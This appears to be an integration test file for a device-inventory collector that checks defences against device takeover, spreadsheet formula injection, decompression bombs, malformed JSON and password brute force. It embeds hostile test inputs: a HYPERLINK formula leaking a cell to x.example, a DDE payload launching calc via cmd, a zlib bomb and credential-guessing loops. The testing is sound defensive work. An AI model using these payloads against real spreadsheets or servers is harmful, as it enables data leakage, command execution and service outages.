"""What a unit's token must not be able to do to other units' devices, against real collector processes."""
from __future__ import annotations

import csv
import http.client
import io
import json
import shutil
import threading
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Optional

import pytest
import requests
from openpyxl import load_workbook

from conftest import cli, free_port, need, start_collector, stop
from support.nginx import start_nginx
from support.reports import windows_pc

pytestmark = pytest.mark.integration


def _at(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def _post(url: str, token: str, doc: dict) -> requests.Response:
    return requests.post(url + "/api/v1/reports", json=doc, headers={"Authorization": f"Bearer {token}"}, timeout=30)


def _device(url: str, device_id: str) -> dict:
    answer = requests.get(f"{url}/api/v1/devices/{device_id}", timeout=30)
    assert answer.status_code == 200, answer.text
    return answer.json()["device"]


def _report(unit: str, device: str, at: datetime, hostname: str) -> dict:
    doc = windows_pc(ward=unit, device=device, at=_at(at))
    doc["device"]["hostname"] = hostname
    return doc


def test_a_units_token_cannot_take_over_another_units_device(collector):
    """The attack of the finding: another unit's device id and a date 23 hours ahead."""
    victim, attacker = collector.token("00004"), collector.token("00070")
    now = datetime.now(timezone.utc)
    assert _post(collector.url, victim, _report("00004", "victim-1", now - timedelta(hours=1), "UB-PC01")
                 ).status_code == 201

    forged = _post(collector.url, attacker, _report("00070", "victim-1", now + timedelta(hours=23), "TAKEN"))
    assert forged.status_code == 409, forged.text
    body = forged.json()
    assert body["error"] == "conflict" and "device.id" in body["message"] and "00004" in body["message"]
    assert _device(collector.url, "victim-1")["ward_code"] == "00004"
    assert _device(collector.url, "victim-1")["hostname"] == "UB-PC01"

    # The real device's next report still counts.
    later = _post(collector.url, victim, _report("00004", "victim-1", now, "UB-PC01-NEW"))
    assert later.status_code == 201 and later.json()["status"] == "accepted"
    assert _device(collector.url, "victim-1")["hostname"] == "UB-PC01-NEW"


def test_a_date_far_ahead_does_not_outrank_the_devices_later_reports(collector):
    token = collector.token("00004")
    now = datetime.now(timezone.utc)
    assert _post(collector.url, token, _report("00004", "clocky", now + timedelta(hours=23), "AHEAD")
                 ).status_code == 201
    assert _post(collector.url, token, _report("00004", "clocky", now + timedelta(seconds=5), "LATER")
                 ).status_code == 201
    device = _device(collector.url, "clocky")
    assert device["hostname"] == "LATER"
    # Counted as collected when received, not at the claimed date.
    assert datetime.fromisoformat(device["last_collected_at"]) < now + timedelta(minutes=5)


def test_an_operator_moves_a_device_that_really_moved(collector):
    old_unit, new_unit = collector.token("00004"), collector.token("00070")
    now = datetime.now(timezone.utc)
    assert _post(collector.url, old_unit, _report("00004", "mover", now - timedelta(hours=2), "PC-MOVED")
                 ).status_code == 201
    assert _post(collector.url, new_unit, _report("00070", "mover", now - timedelta(hours=1), "PC-MOVED")
                 ).status_code == 409

    done = cli("collector.cli", "device", "move", "mover", "--to", "00070", "--db", collector.db_url)
    assert done.returncode == 0, done.stderr
    assert _device(collector.url, "mover")["ward_code"] == "00070"
    assert _post(collector.url, new_unit, _report("00070", "mover", now, "PC-MOVED")).status_code == 201
    audit = cli("collector.cli", "audit", "--json", "--db", collector.db_url)
    assert '"device_move"' in audit.stdout and '"from": "00004"' in audit.stdout

    refused = cli("collector.cli", "device", "move", "no-such-device", "--to", "00070", "--db", collector.db_url)
    assert refused.returncode == 1 and "no device with id 'no-such-device'" in refused.stderr
    assert "Traceback" not in refused.stderr


HOSTILE_FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
EXPORTS = ["/units/00070/devices", "/units/00070/applications", "/export/units"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_exports_hold_no_cell_a_spreadsheet_would_evaluate(collector):
    token = collector.token("00070")
    at = datetime.now(timezone.utc) - timedelta(minutes=5)
    # A formula is no host name: refused naming the field (inventory/text.py); elsewhere it is text, made inert.
    refused = _post(collector.url, token, _report("00070", "hostile-0", at, HOSTILE_FORMULA))
    assert refused.status_code == 400 and "device.hostname" in refused.json()["message"], refused.text
    doc = _report("00070", "hostile-1", at, "PC-HOSTILE-1")
    doc["os"]["name"] = "=1+2"
    doc["software"].append({"name": "@SUM(1+1)*cmd|' /C calc'!A0", "version": "-2+3", "publisher": "+x"})
    assert _post(collector.url, token, doc).status_code == 201
    doc = _report("00070", "hostile-2", at, "PC-HOSTILE-2")
    doc["os"]["name"] = HOSTILE_FORMULA
    assert _post(collector.url, token, doc).status_code == 201
    for export in EXPORTS:
        csv_answer = requests.get(collector.url + export + ".csv", timeout=60)
        assert csv_answer.status_code == 200
        cells = [c for row in _csv_cells(csv_answer.content) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], export
        book = load_workbook(io.BytesIO(requests.get(collector.url + export + ".xlsx", timeout=60).content))
        xlsx = [c for row in book.active.iter_rows() for c in row]
        assert not [c.coordinate for c in xlsx if c.data_type == "f"], export
        if export.endswith("devices"):
            assert f"'{HOSTILE_FORMULA}" in cells and "'=1+2" in cells  # the text, made inert, not lost
            assert {HOSTILE_FORMULA, "=1+2"} <= {c.value for c in xlsx}  # the same text, as strings
            memory = next(c for c in xlsx if c.row == 1 and c.value and "RAM" in str(c.value))
            assert isinstance(book.active.cell(2, memory.column).value, (int, float))  # numbers stay numbers
    units = _csv_cells(requests.get(collector.url + "/export/units.csv", timeout=60).content)
    assert any("Hoàn Kiếm" in c for row in units for c in row)  # Vietnamese comes out unchanged


def test_lone_surrogates_and_deep_nesting_are_400s_naming_the_field_never_500s(collector):
    token = collector.token("00070")
    doc = _report("00070", "surrogate-1", datetime.now(timezone.utc) - timedelta(minutes=1), "PC-OK")
    text = json.dumps(doc).replace('"PC-OK"', '"PC-\\ud800"')
    answer = requests.post(collector.url + "/api/v1/reports", data=text.encode(), timeout=30,
                           headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    assert answer.status_code == 400 and "device.hostname" in answer.json()["message"], answer.text
    doc["network"]["reachability"].append({"target": "\udfff-portal", "ok": True})
    text = json.dumps(doc)  # ensure_ascii escapes the surrogate as \udfff
    answer = requests.post(collector.url + "/api/v1/reports", data=text.encode(), timeout=30,
                           headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    assert answer.status_code == 400 and "network.reachability[2].target" in answer.json()["message"], answer.text
    # A pair of surrogates is one character (an emoji): text, accepted.
    emoji = _report("00070", "emoji-1", datetime.now(timezone.utc), "PC-EMOJI")
    emoji["os"]["name"] = "Windows 11 \U0001F600"
    fine = json.dumps(emoji)
    assert requests.post(collector.url + "/api/v1/reports", data=fine.encode(), timeout=30,
                         headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
                         ).status_code == 201

    admin = cli("collector.cli", "token", "create", "--admin", "--db", collector.db_url).stdout.strip()
    nested = "[" * 100_000 + "]" * 100_000
    for body in (nested, json.dumps({"ward_code": "00070", "app_id": "land_records", "state": "migrating",
                                     "declared_by": "A\ud800"})):
        answer = requests.post(collector.url + "/api/v1/migration/declarations", data=body.encode(), timeout=30,
                               headers={"Authorization": f"Bearer {admin}", "Content-Type": "application/json"})
        assert answer.status_code == 400, answer.text


def _rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


@pytest.mark.parametrize("body", ["xml", "json"])
def test_a_small_compressed_inventory_of_millions_of_elements_is_refused_at_once(collector, body):
    """The finding: 32 KB of zlib inflating to 8.4 million empty elements held all ingest for 15 s."""
    token = collector.token("00070")
    other = collector.token("00004")
    if body == "xml":
        inner = (b'<?xml version="1.0"?><REQUEST><QUERY>INVENTORY</QUERY><CONTENT>' + b"<A/>" * 8_000_000
                 + b"</CONTENT></REQUEST>")
    else:
        inner = b'{"action": "inventory", "content": {"softwares": [' + b"{}," * 8_000_000 + b'{}]}}'
    bomb = zlib.compress(inner, 9)
    assert len(bomb) < 64 * 1024
    before = _rss_mib(collector.proc.pid)
    answers: dict[str, requests.Response] = {}

    def send_bomb() -> None:
        answers["bomb"] = requests.post(collector.url + "/inventory", data=bomb, auth=("00070", token), timeout=120,
                                        headers={"Content-Type": "application/x-compress"})

    started = time.monotonic()
    thread = threading.Thread(target=send_bomb)
    thread.start()
    time.sleep(0.05)
    # Another unit's agent meanwhile: its report is not held behind the bomb.
    report = _report("00004", "neighbour-1", datetime.now(timezone.utc) - timedelta(minutes=1), "PC-NEXT-DOOR")
    neighbour = _post(collector.url, other, report)
    neighbour_done = time.monotonic() - started
    thread.join(120)
    bomb_done = time.monotonic() - started
    assert neighbour.status_code == 201 and neighbour_done < 10, neighbour_done
    answer = answers["bomb"]
    # GLPI agents read the answer in their own encoding (zlib here); XML agents get JSON.
    text = zlib.decompress(answer.content).decode() if body == "json" else answer.text
    assert answer.status_code == 400 and "200,000" in text, text
    assert bomb_done < 15, bomb_done  # a second or two on an idle machine; this one is shared
    assert _rss_mib(collector.proc.pid) - before < 300


def _post_from(source: str, port: int, path: str, body: bytes, token: str,
               headers: Optional[dict[str, str]] = None) -> int:
    """A POST from a loopback address of our choosing, as two machines behind the same proxy would be."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30, source_address=(source, 0))
    try:
        connection.request("POST", path, body=body, headers={"Authorization": f"Bearer {token}",
                                                             "Content-Type": "application/json", **(headers or {})})
        return connection.getresponse().status
    finally:
        connection.close()


def test_a_flood_of_bad_tokens_through_the_proxy_does_not_lock_agents_out(tmp_path):
    """Strangers and agents all reach the collector through nginx, as the Ansible role deploys it: the failures
    are charged to the stranger (X-Forwarded-For from the trusted proxy), not to the proxy every agent shares."""
    need(shutil.which("nginx") is not None, "nginx not installed (Debian package 'nginx-light')")
    collector = start_collector(f"sqlite:///{tmp_path / 'store.sqlite3'}", "--trusted-proxy", "127.0.0.1",
                                "--failed-auth-rate-limit", "6/10", "--address-rate-limit", "600/600")
    port = free_port()
    nginx = None
    try:
        token = collector.token("00070")
        nginx = start_nginx(tmp_path / "nginx", f"""
    server {{
        listen 127.0.0.1:{port};
        location / {{
            proxy_pass {collector.url};
            proxy_set_header Host $host;
            proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
        }}
    }}""", f"http://127.0.0.1:{port}")
        stranger = [_post_from("127.0.0.3", port, "/api/v1/reports", b"{}", "hdc_0123456789abcdef_guess")
                    for _ in range(40)]
        assert stranger[:10] == [401] * 10 and stranger[-1] == 429, stranger
        now = datetime.now(timezone.utc)
        for n in range(5):
            doc = _report("00070", f"agent-{n}", now - timedelta(minutes=n), f"PC-{n}")
            assert _post_from("127.0.0.2", port, "/api/v1/reports", json.dumps(doc).encode(), token) == 201
        # The stranger is still held: naming an agent in X-Forwarded-For does not help, nginx appends the peer.
        assert _post_from("127.0.0.3", port, "/api/v1/reports", b"{}", "hdc_0123456789abcdef_guess",
                          {"X-Forwarded-For": "127.0.0.2"}) == 429
    finally:
        if nginx is not None:
            nginx.terminate()
            nginx.wait()
        stop(collector.proc)


def test_wrong_passwords_are_throttled_per_address_and_name(tmp_path):
    """The finding: 48 wrong passwords from 16 threads were all checked (a slow hash each), never a 429."""
    from collector.http.viewers import set_viewer

    set_viewer(tmp_path / "viewers", "lan", "mật-khẩu-đủ-dài")
    collector = start_collector(f"sqlite:///{tmp_path / 'store.sqlite3'}", "--login", "basic",
                                "--viewers-file", str(tmp_path / "viewers"))
    try:
        def guess(n: int) -> int:
            return requests.get(collector.url + "/", auth=("lan", f"wrong-{n}"), timeout=60).status_code

        with ThreadPoolExecutor(16) as pool:
            answers = list(pool.map(guess, range(48)))
        # 503: more than two guesses waited for a slow password hash at once, and were sent away.
        assert 429 in answers and set(answers) <= {401, 429, 503}, answers
        assert answers.count(401) <= 10 + 16  # the burst, and the guesses already in flight when it ran out
        later = requests.get(collector.url + "/", auth=("lan", "wrong-again"), timeout=60)
        assert later.status_code == 429 and int(later.headers["Retry-After"]) >= 1
        assert "Too many wrong passwords" in later.text
        # /healthz and the agents' routes are not behind the login, so not behind its throttle either.
        assert requests.get(collector.url + "/healthz", timeout=30).status_code == 200
    finally:
        stop(collector.proc)
